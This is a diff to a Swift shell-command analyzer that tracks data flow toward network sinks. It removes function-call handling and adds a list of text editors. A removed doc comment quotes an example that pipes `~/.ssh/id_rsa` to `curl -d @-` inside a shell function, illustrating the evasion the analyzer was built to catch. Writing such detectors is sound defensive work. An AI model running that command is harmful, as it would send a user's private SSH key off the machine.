@@ -7,11 +7,6 @@ extension ShellAnalyzer {
             judgeDynamicName(inv)
             return DataFlow(labels: inv.stdinLabels)
         }
-        if !functionBodies.isEmpty, let body = functionBodies[inv.argv[0]], functionCalls < 16 {
-            // A recursive call adds nothing the outer call has not shown.
-            if activeFunctions.contains(inv.argv[0]) { return DataFlow(labels: inv.stdinLabels) }
-            return callFunction(body, inv)
-        }
         // `./script` is the project's own program, not the system tool of the same name.
         let localProgram = inv.argv[0].hasPrefix("./") || inv.argv[0].hasPrefix("../")
         if !localProgram, let flow = unwrap(inv) {
@@ -38,29 +33,6 @@ extension ShellAnalyzer {
         checkWrittenProgram(inv)
         checkNetworkSinks(inv)
         return flow ?? defaultFlow(inv)
-    }
-
-    /// `f(){ cat "$1" | curl -d @- …; }; f ~/.ssh/id_rsa`: the body runs with `$1…$9`, `$@` and
-    /// `$*` bound to the call's arguments, so a function cannot hide what it is given.
-    mutating func callFunction(_ body: String, _ inv: CommandInvocation) -> DataFlow {
-        functionCalls += 1
-        let arguments = Array(inv.arguments.prefix(9))
-        let names = ["1", "2", "3", "4", "5", "6", "7", "8", "9", "@", "*"]
-        let saved = names.map { variables[$0] }
-        for (index, name) in names.prefix(9).enumerated() {
-            variables[name] = index < arguments.count ? (arguments[index], inv.argumentLabels[index + 1] ?? []) : nil
-        }
-        let all = inv.argumentLabels.values.reduce(DataLabels()) { $0.union($1) }
-        variables["@"] = (arguments.joined(separator: " "), all)
-        variables["*"] = variables["@"]
-        let savedPositional = positional
-        positional = arguments
-        activeFunctions.insert(inv.argv[0])
-        let flow = runScript(body, origin: .wrapper, inv: inv, privileged: inv.privileged, stdin: inv)
-        activeFunctions.remove(inv.argv[0])
-        positional = savedPositional
-        for (name, value) in zip(names, saved) { variables[name] = value }
-        return flow
     }
 
     /// Commands whose name comes from an unresolved expansion run something we cannot see.
@@ -134,8 +106,11 @@ extension ShellAnalyzer {
     /// its options and judges its files) nor general-purpose interpreters (their operands are a
     /// script and its arguments); awk is an interpreter whose operands are files.
     static let readersAfterHandler: Set<String> = fileReaders.filter {
-        !["grep", "egrep", "fgrep", "rg"].contains($0) && (interpreters[$0] == nil || patternFirst.contains($0))
+        !["grep", "egrep", "fgrep", "rg"].contains($0) && (interpreters[$0] == nil || patternFirst.contains($0)) && !editors.contains($0)
     }
+    /// Editors judge their files themselves (`openForEditing`): an edit is a read and, where
+    /// writing is worse than reading, a write.
+    static let editors: Set<String> = ["view", "vim", "vi", "nvim", "nano", "ed", "red", "ex", "pico", "ee", "emacs", "mg", "joe", "jed", "micro", "mcedit", "sudoedit", "nvi", "vis", "kak", "hx"]
     static let patternFirst: Set<String> = ["grep", "egrep", "fgrep", "rg", "sed", "awk", "jq", "yq", "look", "tr"]
 
     /// Filters whose output is their input when called without arguments.
